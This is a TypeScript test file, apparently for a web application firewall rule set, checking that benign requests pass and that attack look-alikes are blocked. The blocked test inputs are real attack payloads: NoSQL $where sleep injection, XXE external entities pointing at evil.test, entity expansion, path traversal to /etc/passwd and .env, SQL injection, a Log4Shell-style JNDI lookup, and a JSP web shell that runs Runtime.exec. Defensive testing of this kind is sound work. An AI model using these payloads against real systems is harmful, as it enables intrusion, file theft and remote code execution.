// What the fourteenth trial showed of plain requests, each with what it lies close to.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blockedBy } from '../../corpora/report/default-set.ts';

const get = (target: string): string => blockedBy({ target });
const where = (value: string): string => get(`/resource/a.json?$where=${encodeURIComponent(value)}`);
const header = (name: string, value: string): string =>
  blockedBy({ target: '/a', headers: ['User-Agent', 'a/1', name, value] });
const json = (value: unknown): string =>
  blockedBy({
    method: 'POST',
    target: '/a',
    headers: ['Content-Type', 'application/json'],
    body: JSON.stringify(value),
  });
const xml = (body: string): string =>
  blockedBy({ method: 'POST', target: '/a', headers: ['Content-Type', 'application/xml'], body });

const passes = (send: (value: string) => string, values: readonly string[]): void => {
  for (const value of values) assert.equal(send(value), '', value);
};
const blocks = (send: (value: string) => string, values: readonly string[]): void => {
  for (const value of values) assert.notEqual(send(value), '', value);
};

test('a condition in the words of SQL is no script of a document database, by whatever name', () => {
  passes(where, [
    "date between '2026-01-01T00:00:00' and '2026-02-01T00:00:00' and upper(name) like '%ST.%'",
    "county = 'Kings' and year > 2020",
    'magnitude > 3.0',
    "state in ('NY', 'NJ') or depth is not null",
    "name like '%O''Neil%' and not active = true",
  ]);
  blocks(where, [
    'sleep(5000)',
    '1',
    'true',
    "this.password == 'a'",
    'this.a == 1 and (b)',
    'sleep(5000)\nand (b)',
    'sleep(5000), typeof and (b)',
    'sleep(5000) in and (b)',
    'sleep(5000);a and b',
    'sleep(5000)//a and b',
    'sleep(5000)/*a and b*/',
    "'a and b' == 'a' || sleep(5000)",
    'Infinity > 1',
    'active = true',
    'return 1',
  ]);
  assert.notEqual(get('/a?$where=a%20and%20b&$where=sleep(5000)'), '');
  assert.notEqual(get('/a?user[$where]=a%20and%20b'), '');
  assert.notEqual(json({ $where: 'a and b' }), '');
});

test('document types of products and names of namespaces reach nothing', () => {
  const drawing = ['svg', 'xlink', 'ai', 'graphs', 'vars']
    .map((name) => `<!ENTITY ns_${name} "http://ns.adobe.com/${name}/1.0/">`)
    .join('\n');
  passes(xml, [
    '<!DOCTYPE cXML SYSTEM "http://xml.cXML.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>',
    '<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd"><coverage/>',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [${drawing}]><svg xmlns="&ns_svg;"/>`,
  ]);
  blocks(xml, [
    '<!DOCTYPE cXML SYSTEM "http://evil.test/xml.cxml.org/cXML.dtd"><cXML/>',
    '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org.evil.test/cXML.dtd"><cXML/>',
    '<!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r/>',
    '<!DOCTYPE svg [<!ENTITY ns_svg SYSTEM "http://www.w3.org/2000/svg">]><svg>&ns_svg;</svg>',
    '<!DOCTYPE svg [<!ENTITY % ns_svg "http://www.w3.org/2000/svg">%ns_svg;]><svg/>',
    '<!DOCTYPE svg [<!ENTITY a "http://www.w3.org/2000/svg"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]><svg>&c;</svg>',
  ]);
});

test('where a record stands and what is passed over are told of, not opened', () => {
  const line = 'Aug  3 10:15:01 web1 sshd[2213]: Invalid user oracle from 203.0.113.9 port 51022';
  assert.equal(json({ rule: { level: 5 }, full_log: line, location: '/var/log/auth.log' }), '');
  assert.equal(json({ full_log: 'a', timestamp: '2026-08-03T10:15:00Z', location: '/var/log/auth.log' }), '');
  assert.equal(json({ ignore: ['node_modules/', '*.log', '.env', '!keep.txt'] }), '');
  assert.equal(json({ search: { exclude_files: ['.htaccess', '.git'] } }), '');
  assert.equal(get('/files?path=/photos/&exclude=.DS_Store&exclude[]=.git'), '');
  assert.notEqual(get('/files?exclude=../../.env'), '');
  assert.notEqual(get('/files?file=.env'), '');
  for (const value of [
    { location: '/var/log/auth.log' },
    { location: '/var/log/auth.log', message: 'hello' },
    { message: line, location: '/etc/passwd' },
    { message: line, location: '../../var/log/auth.log' },
    { file: '.env' },
    { files: ['*.log', '.env'] },
    { ignore: '.env' },
    { ignore: ['/etc/passwd'] },
    { ignore: ['../../../etc/passwd'] },
  ])
    assert.notEqual(json(value), '', JSON.stringify(value));
});

test('a tag made by chance spells no statement', () => {
  passes(
    (value) => header('If-None-Match', value),
    ['W/"OR+Cp0XHND4="', '"OR+Cp0XHND4="', '"33a64df5", W/"and+1or2=="'],
  );
  blocks(
    (value) => header('If-None-Match', value),
    [
      '"x\'; drop table etags;--"',
      '"or+1=1"',
      '" or 1=1 --',
      '"../../../../etc/passwd"',
      '"${jndi:ldap://evil.test/a}"',
    ],
  );
  assert.notEqual(header('X-Tag', '" OR 1=1 --'), '');
});

test('the name of a thing begins with what is a call elsewhere', () => {
  const q = (value: string): string => get(`/search?q=${encodeURIComponent(value)}`);
  passes(q, ['sleep(8) mattress 90x200', 'sleep(12) pillow set of 2']);
  assert.equal(get('/p/sleep(8)%20mattress%2090x200'), '');
  blocks(q, [
    'sleep(5)',
    'sleep(5) desc',
    'sleep(5) desc limit 1',
    'sleep(5) a from dual',
    'sleep(5) or 1=1',
    '1 and sleep(5)',
    'sleep(5) -- a b',
    "x' and sleep(5) and 'a b",
  ]);
});

test('a text that names a file of Windows in brackets, and what a page of JSP is written in', () => {
  assert.equal(
    json({ body: 'Add a line to the file of hosts (Windows: C:\\Windows\\System32\\drivers\\etc\\hosts).' }),
    '',
  );
  assert.equal(
    json({
      a: '<%@ page language="java" contentType="text/html; charset=UTF-8" %>\n<ul><li>${o.name}</li></ul>',
    }),
    '',
  );
  for (const value of [
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '(C:\\Windows\\win.ini)',
    '<%@ page import="java.io.*" %>',
    '<%@ page language="java" import="java.util.*,java.io.*" %>',
    '<%@ page language="java" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  ])
    assert.notEqual(json({ a: value }), '', value);
});
